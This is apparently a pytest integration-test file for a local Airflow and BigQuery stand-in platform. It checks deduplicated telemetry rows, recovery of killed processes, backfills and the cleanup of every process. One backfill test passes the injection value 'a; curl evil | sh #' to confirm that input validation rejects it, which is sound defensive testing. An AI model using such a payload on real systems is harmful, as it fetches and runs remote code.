"""The whole platform on real processes: two days, the rows they leave, faults, and that nothing outlives it."""

from __future__ import annotations

import contextlib
import datetime as dt
import http.client
import json
import os
import re
import signal
import subprocess
import sys
import time
from typing import TYPE_CHECKING, Any

import psutil
import pytest

from utils.config import ROOT, environment
from wtmo.local import airflow, all_dags, api, day, platform, warehouse
from wtmo.local.services.outbox import read_outbox
from wtmo.local.state import PlatformRecord, State, marked_processes

if TYPE_CHECKING:
    from collections.abc import Callable, Iterator
    from pathlib import Path

pytestmark = [pytest.mark.platform, pytest.mark.timeout(900)]

FIRST, SECOND = dt.date(2026, 6, 1), dt.date(2026, 6, 2)
CLIENTS = 20
IDLE_BYTES = 1.5e9


def wait(condition: Callable[[], object], what: str, seconds: float = 60) -> None:
    end = time.monotonic() + seconds
    while not condition():
        assert time.monotonic() < end, f"waited {seconds} s for {what}"
        time.sleep(0.2)


def quiet(_: str) -> None:
    """Take a report and say nothing."""


class Running:
    """A platform and what the tests ask of it."""

    def __init__(self, state: State, record: PlatformRecord) -> None:
        self.state = state
        self.record = record
        self.results: dict[dt.date, list[day.TaskResult]] = {}
        self.stable: dict[str, object] = {}

    def run(self, date: dt.date) -> list[day.TaskResult]:
        day.seed(self.state, self.record, date, seeds=None, clients=CLIENTS, report=quiet)
        lines: list[str] = []
        results = day.run_day(self.state, self.record, date, report=lines.append)
        assert day.succeeded(results), "\n".join(lines)
        self.results[date] = results
        return results

    def rows(self, sql: str) -> list[dict[str, object]]:
        return [dict(row.items()) for row in warehouse.client(self.record).query_and_wait(sql)]

    def wtmo(self, *arguments: str) -> subprocess.CompletedProcess[str]:
        return subprocess.run(
            [sys.executable, "-m", "wtmo", *arguments, "--state", str(self.state.root)],
            cwd=ROOT,
            capture_output=True,
            text=True,
            check=False,
            timeout=300,
        )


@pytest.fixture(scope="module")
def running(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Running]:
    state = State(tmp_path_factory.mktemp("platform"))
    launch = platform.Launch(state, port=0)
    try:
        yield Running(state, launch.wait(quiet))
    finally:
        launch.stop()


@pytest.fixture(scope="module")
def two_days(running: Running) -> Running:
    running.run(FIRST)
    running.stable = fingerprint(running, FIRST)
    running.run(SECOND)
    return running


STABLE = ("telemetry_stable.main_v5", "telemetry_stable.event_v4", "firefox_desktop_stable.metrics_v1")


def fingerprint(running: Running, date: dt.date) -> dict[str, object]:
    """Count and a digest of every row of a day, for each stable table."""
    return {
        table: running.rows(
            f"SELECT COUNT(*) AS n, BIT_XOR(FARM_FINGERPRINT(TO_JSON_STRING(t))) AS digest "
            f"FROM {table} AS t WHERE DATE(submission_timestamp) = '{date}'"
        )
        for table in STABLE
    }


def test_an_idle_platform_is_within_its_memory(running: Running) -> None:
    from wtmo.bench.measure import memory, processes

    assert memory(processes(running.record)) < IDLE_BYTES


def test_both_days_are_green_with_the_rows_that_sql_counts(two_days: Running) -> None:
    for date in (FIRST, SECOND):
        by_task = {(r.dag, r.task): r for r in two_days.results[date]}
        assert by_task["copy_deduplicate", "copy_deduplicate_main_ping"].state == "success"
        counted = two_days.rows(
            "SELECT (SELECT COUNT(*) FROM telemetry_stable.main_v5 WHERE DATE(submission_timestamp) = @d) + "
            "(SELECT COUNT(*) FROM telemetry_stable.main_use_counter_v4 WHERE DATE(submission_timestamp) = @d) AS n".replace(
                "@d", f"'{date}'"
            )
        )
        assert by_task["copy_deduplicate", "copy_deduplicate_main_ping"].rows == counted[0]["n"]
        events = two_days.rows(
            f"SELECT COUNT(*) AS n FROM telemetry_derived.event_events_v1 WHERE submission_date = '{date}'"
        )
        assert by_task["copy_deduplicate", "event_events"].rows == events[0]["n"]


@pytest.mark.parametrize("table", STABLE)
def test_stable_tables_hold_one_row_a_document_the_earliest(two_days: Running, table: str) -> None:
    live = table.replace("_stable", "_live")
    duplicates = two_days.rows(
        f"SELECT COUNT(*) - COUNT(DISTINCT CONCAT(document_id, DATE(submission_timestamp))) AS n FROM {live}"
    )
    assert isinstance(duplicates[0]["n"], int)
    assert duplicates[0]["n"] > 0, "the pings hold no duplicates: this test would prove nothing"
    wrong = two_days.rows(
        f"""
        WITH expected AS (
          SELECT DATE(submission_timestamp) AS day, document_id, MIN(submission_timestamp) AS first
          FROM {live} GROUP BY day, document_id
        ),
        stable AS (
          SELECT DATE(submission_timestamp) AS day, document_id, COUNT(*) AS n, MIN(submission_timestamp) AS first
          FROM {table} GROUP BY day, document_id
        )
        SELECT COUNT(*) AS n FROM expected FULL JOIN stable USING (day, document_id)
        WHERE stable.n IS DISTINCT FROM 1 OR expected.first IS DISTINCT FROM stable.first
        """
    )
    assert wrong[0]["n"] == 0


def test_the_second_day_left_the_first_alone_and_a_second_run_gives_the_same_rows(two_days: Running) -> None:
    assert fingerprint(two_days, FIRST) == two_days.stable
    two_days.run(FIRST)
    assert fingerprint(two_days, FIRST) == two_days.stable


def test_the_log_of_a_pod_task_holds_what_the_program_in_the_pod_wrote(two_days: Running) -> None:
    logs = [p for p in (two_days.state.root / "airflow" / "logs").rglob("*event_events*/**/*.log") if p.is_file()]
    assert logs
    assert any("event_events_v1" in p.read_text() and "submission_date:DATE:" in p.read_text() for p in logs)


def test_status_and_bq_answer_people_and_programs(two_days: Running) -> None:
    shown = two_days.wtmo("status", "--json")
    assert shown.returncode == 0, shown.stdout + shown.stderr
    services = {s["name"]: s for s in json.loads(shown.stdout)["services"]}
    assert {"postgres", "bigquery", "pods", "services", "gcs", "api-server", "scheduler", "triggerer"} <= set(services)
    rows = two_days.wtmo("bq", "SELECT 1 AS one, 'a[b]c' AS text", "--json")
    assert json.loads(rows.stdout) == [{"one": 1, "text": "a[b]c"}]
    bad = two_days.wtmo("bq", "SELEC 1")
    assert bad.returncode == 2
    assert "SELEC" in bad.stderr


def test_everything_listens_on_loopback_only(running: Running) -> None:
    from wtmo.bench.measure import processes

    listening = []
    for process in processes(running.record):
        with contextlib.suppress(psutil.NoSuchProcess):  # a parse or a task that has ended meanwhile
            connections = process.net_connections("tcp")
            listening += [each.laddr for each in connections if each.status == psutil.CONN_LISTEN]
    assert len(listening) >= len(airflow.Ports.__dataclass_fields__)
    # gRPC's own listens on IPv6's form of 127.0.0.1.
    assert {address.ip.removeprefix("::ffff:") for address in listening} <= {"127.0.0.1", "::1"}


SUNDAY = dt.date(2026, 5, 31)
SOME = {
    "bhr_collection": "dataproc",
    "bqetl_backfill_initiate": "slack",
    "dbt_daily": "dbt",
    "peopleintegration-workday-get-report": "sftp",
}
"""Hand-written DAGs that are due on a Sunday, and what each must have put into the outbox."""


@pytest.fixture(scope="module")
def some_of_all(two_days: Running) -> all_dags.DayOfAll:
    """A part of ``wtmo day --all``: the whole takes too long here."""
    lines: list[str] = []
    found = all_dags.run_all(
        two_days.state, two_days.record, SUNDAY, report=lines.append, only=tuple(SOME), seconds=480
    )
    assert found.succeeded, "\n".join(lines)
    return found


@pytest.mark.parametrize(("dag", "kind"), SOME.items())
def test_a_dag_runs_to_green_on_the_stand_ins(
    two_days: Running, some_of_all: all_dags.DayOfAll, dag: str, kind: str
) -> None:
    (result,) = [result for result in some_of_all.dags if result.dag == dag]
    assert (result.state, result.tasks) == ("success", result.of)
    assert kind in {message.kind for message in read_outbox(two_days.state.root / "services" / "outbox")}


def test_what_others_wait_for_was_taken_as_done_and_not_run(two_days: Running, some_of_all: all_dags.DayOfAll) -> None:
    import airflow_client.client as airflow_client

    assert [(run.dag, run.date[:10]) for run in some_of_all.taken_as_done] == [("copy_deduplicate", str(SUNDAY))]
    with api.client(two_days.record) as client:
        tasks = airflow_client.TaskInstanceApi(client).get_task_instances(
            "copy_deduplicate", f"day__{some_of_all.taken_as_done[0].date}"
        )
    states = {instance.task_id: instance.state.value for instance in tasks.task_instances if instance.state}
    assert states["copy_deduplicate_all"] == "success"
    assert {instance.hostname for instance in tasks.task_instances} == {""}, "no process has run any"


def test_the_file_that_was_sent_is_the_one_that_was_exported(two_days: Running, some_of_all: all_dags.DayOfAll) -> None:
    assert some_of_all.succeeded
    (sent,) = (two_days.state.root / "services" / "sftp").glob("*/data/prod/*.csv")
    lines = sent.read_text().splitlines()
    assert lines[0].startswith("email,firstName,lastName,enabled")
    assert len(lines) == 4


@pytest.mark.parametrize("name", ["bigquery", "pods", "services", "gcs", "triggerer"])
def test_a_killed_process_comes_back_and_loses_nothing(two_days: Running, name: str) -> None:
    before = fingerprint(two_days, SECOND)
    record = PlatformRecord.load(two_days.state)
    assert record
    pid = record.services[name].pid
    assert pid
    os.kill(pid, signal.SIGKILL)

    def back() -> bool:
        now = PlatformRecord.load(two_days.state)
        return bool(now and now.services[name].pid != pid and now.services[name].state == "running")

    wait(back, f"{name} to run again")
    after = PlatformRecord.load(two_days.state)
    assert after
    assert after.services[name].restarts >= 1
    assert "SIGKILL" in (after.services[name].note or "")
    assert fingerprint(two_days, SECOND) == before


def test_a_second_platform_on_the_same_folder_is_refused(running: Running) -> None:
    refused = subprocess.run(
        [sys.executable, "-m", "wtmo.local.supervisor", "--state", str(running.state.root), "--port", "0"],
        cwd=ROOT,
        capture_output=True,
        text=True,
        check=False,
        timeout=60,
    )
    assert refused.returncode == 2
    assert "already runs" in refused.stderr
    assert platform.running(running.state)


def backfill(client: Any, **params: Any) -> tuple[str, Any, str]:
    """Start the DAG ``backfill``; the state of its first task, what that left as XCom, and the end of its log."""
    import airflow_client.client as airflow_client

    body = airflow_client.TriggerDAGRunPostBody(conf=params, logical_date=None)
    run = airflow_client.DagRunApi(client).trigger_dag_run("backfill", body).dag_run_id
    key = ("backfill", run, "execute_backfill")
    tasks = airflow_client.TaskInstanceApi(client)
    wait(lambda: day.state_of(tasks.get_task_instance(*key)) in {"success", "failed"}, f"{key} to end", 120)
    task = tasks.get_task_instance(*key)
    answer = airflow_client.XComApi(client).get_xcom_entry_without_preload_content(
        "backfill", "execute_backfill", run, "return_value", deserialize=True
    )
    record = json.loads(answer.data)["value"] if answer.status == 200 else None
    return day.state_of(task), record, day.end_of_log(client, task)


def test_a_backfill_lists_then_clears_and_what_is_wrong_it_refuses(running: Running) -> None:
    import airflow_client.client as airflow_client

    day.run_day(running.state, running.record, FIRST, report=quiet, dags=("bugzilla",))
    tags = [m for m in read_outbox(running.state.root / "services" / "outbox") if m.kind == "bugzilla"]
    assert [(m.recipients, m.text) for m in tags] == [(("2",), "[dataplatform]"), (("1",), "[dataplatform]")]
    with api.client(running.record) as client:
        patch = airflow_client.DAGPatchBody(is_paused=False)
        airflow_client.DAGApi(client).patch_dag("backfill", patch, update_mask=["is_paused"])
        (run,) = airflow_client.DagRunApi(client).get_dag_runs("bugzilla").dag_runs
        key = ("bugzilla", run.dag_run_id, "tag_bugs_with_dataplatform")
        tasks = airflow_client.TaskInstanceApi(client)
        asked = {"dag_name": "bugzilla", "start_date": f"{FIRST}", "end_date": f"{FIRST}", "clear": True}
        planned = {run.dag_run_id: ["tag_bugs_with_dataplatform"]}

        state, record, _ = backfill(client, **asked, task_regex="^tag_")
        assert (state, record["planned"], record["done"]) == ("success", planned, {})
        assert tasks.get_task_instance(*key).try_number == 1, "a dry run changes nothing"

        state, record, _ = backfill(client, **asked, task_regex="^tag_", dry_run=False)
        assert (state, record["planned"], record["done"]) == ("success", planned, planned)
        wait(lambda: tasks.get_task_instance(*key).try_number == 2, "the cleared task to run again", 60)

        state, _, log = backfill(client, **asked | {"dag_name": "bugzila"}, dry_run=False)
        assert state == "failed"
        assert "there is no such DAG. Did you mean 'bugzilla'?" in log
        with pytest.raises(airflow_client.ApiException, match="Invalid input for param task_regex"):
            backfill(client, **asked, task_regex="a; curl evil | sh #", dry_run=False)


FAULTS = ROOT / "tests" / "wtmo" / "local" / "fault_dags"


@pytest.fixture(scope="module")
def faults(tmp_path_factory: pytest.TempPathFactory) -> Iterator[tuple[Running, str]]:
    """A platform on which the DAG ``faults`` has run, with what was reported of it."""
    import airflow_client.client as airflow_client

    state = State(tmp_path_factory.mktemp("faults"))
    launch = platform.Launch(state, port=0, dags=FAULTS)
    try:
        running = Running(state, launch.wait(quiet))
        token = state.secret("service_token").read_text()
        kubeconfig = {
            "current-context": "local",
            "contexts": [{"name": "local", "context": {"cluster": "local", "user": "local"}}],
            "clusters": [
                {
                    "name": "local",
                    "cluster": {
                        "server": f"https://127.0.0.1:{running.record.ports['pods']}",
                        "certificate-authority": running.record.settings["WTMO_GKE_CA_FILE"],
                    },
                }
            ],
            "users": [{"name": "local", "user": {"token": token}}],
        }
        with api.client(running.record) as client:
            body = airflow_client.ConnectionBody(
                connection_id="any_cluster", conn_type="kubernetes", extra=json.dumps({"kube_config": kubeconfig})
            )
            airflow_client.ConnectionApi(client).post_connection(body)
        lines: list[str] = []
        running.results[FIRST] = day.run_day(state, running.record, FIRST, report=lines.append, dags=("faults",))
        yield running, "\n".join(lines)
    finally:
        launch.stop()


@pytest.mark.parametrize(
    ("task", "says"),
    [
        ("unknown_image", "example.com/nobody/nothing"),
        ("missing_query", "sql/moz-fx-data-shared-prod/telemetry_derived/nothing_v1/query.sql"),
        ("bad_sql", "FRM"),
        ("unknown_command", "fly"),
    ],
)
def test_a_bad_task_fails_with_what_and_where_in_its_log_and_its_mail(
    faults: tuple[Running, str], task: str, says: str
) -> None:
    running, report = faults
    assert {r.task: r.state for r in running.results[FIRST]}[task] == "failed"
    assert says in report.partition(f"faults.{task} failed")[2]
    mails = [m for m in read_outbox(running.state.root / "services" / "outbox") if f"faults.{task} failed" in m.subject]
    assert len(mails) == 1
    assert says in mails[0].html


@pytest.mark.parametrize("task", ["kubernetes_deferred", "kubernetes_waiting"])
def test_a_kubernetes_connection_leads_to_its_cluster(faults: tuple[Running, str], task: str) -> None:
    running, report = faults
    assert {r.task: r.state for r in running.results[FIRST]}[task] == "success", report


def test_a_failed_task_leaves_no_pod_that_runs(faults: tuple[Running, str]) -> None:
    from kubernetes import client as kubernetes

    running, _ = faults
    configuration = kubernetes.Configuration(
        host=f"https://127.0.0.1:{running.record.ports['pods']}",
        api_key={"authorization": f"Bearer {running.state.secret('service_token').read_text()}"},
    )
    configuration.ssl_ca_cert = running.record.settings["WTMO_GKE_CA_FILE"]
    pods = kubernetes.CoreV1Api(kubernetes.ApiClient(configuration)).list_namespaced_pod("default").items
    assert {p.status.phase for p in pods} <= {"Failed", "Succeeded"}
    kept = {p.metadata.labels["task_id"] for p in pods if p.status.phase == "Failed"}
    assert {"missing_query", "bad_sql"} <= kept, "failed pods are kept for debugging"


def _up(state: Path, *arguments: str) -> subprocess.Popen[str]:
    return subprocess.Popen(
        [sys.executable, "-m", "wtmo", "up", "--state", str(state), "--port", "0", *arguments],
        cwd=ROOT,
        env=environment(),
        stdout=subprocess.PIPE,
        stderr=subprocess.STDOUT,
        text=True,
        start_new_session=True,
    )


def _record(state: Path) -> PlatformRecord | None:
    return PlatformRecord.load(State(state))


def _gone(record: PlatformRecord) -> bool:
    if any(marked_processes(record.marker)):
        return False
    for port in record.ports.values():
        with contextlib.closing(http.client.HTTPConnection("127.0.0.1", port, timeout=1)) as connection:
            try:
                connection.connect()
            except OSError:
                continue
            return False
    return True


@pytest.mark.parametrize(
    ("whom", "how"),
    [
        pytest.param("command", signal.SIGINT, id="ctrl-c of the command"),
        pytest.param("command", signal.SIGKILL, id="kill -9 of the command"),
        pytest.param("supervisor", signal.SIGKILL, id="kill -9 of the supervisor"),
        pytest.param("supervisor", signal.SIGTERM, id="kill of the supervisor"),
    ],
)
def test_nothing_outlives_its_parent(tmp_path: Path, whom: str, how: signal.Signals) -> None:
    command = _up(tmp_path)
    try:
        wait(lambda: (r := _record(tmp_path)) and "scheduler" in r.services, "the scheduler to be started", 120)
        record = _record(tmp_path)
        assert record
        assert any(marked_processes(record.marker))
        os.kill(command.pid if whom == "command" else record.pid, how)
        command.wait(60)
        wait(lambda: _gone(record), "every process and port to be gone", 30)
    finally:
        command.kill()
        platform.stop(State(tmp_path))


def test_what_make_started_ends_with_make(tmp_path: Path) -> None:
    parent = subprocess.Popen(
        [
            *(sys.executable, "-c", "import subprocess, sys; subprocess.run(sys.argv[1:])"),
            *(sys.executable, "-m", "wtmo", "up", "--tied", "--no-day", "--port", "0", "--state", str(tmp_path)),
        ],
        cwd=ROOT,
        stdout=subprocess.DEVNULL,
        stderr=subprocess.DEVNULL,
    )
    try:
        wait(lambda: (r := _record(tmp_path)) and "bigquery" in r.services, "the first services to be started", 120)
        record = _record(tmp_path)
        assert record
        parent.kill()
        parent.wait()
        wait(lambda: _gone(record), "every process and port to be gone", 40)
    finally:
        parent.kill()
        platform.stop(State(tmp_path))


def test_up_leaves_the_ui_and_down_ends_it(tmp_path: Path) -> None:
    command = _up(tmp_path, "--no-day")
    try:
        text, _ = command.communicate(timeout=240)
        assert command.returncode == 0, text
        found = re.search(r"http://localhost:(\d+)", text)
        assert found, text
        with contextlib.closing(http.client.HTTPConnection("127.0.0.1", int(found[1]), timeout=30)) as connection:
            connection.request("GET", "/api/v2/version")
            assert json.loads(connection.getresponse().read())["version"].startswith("3.3")
        record = _record(tmp_path)
        assert record
        assert platform.stop(State(tmp_path)) == ["the platform has ended"]
        assert _gone(record)
        assert platform.stop(State(tmp_path)) == []
    finally:
        command.kill()
        platform.stop(State(tmp_path))
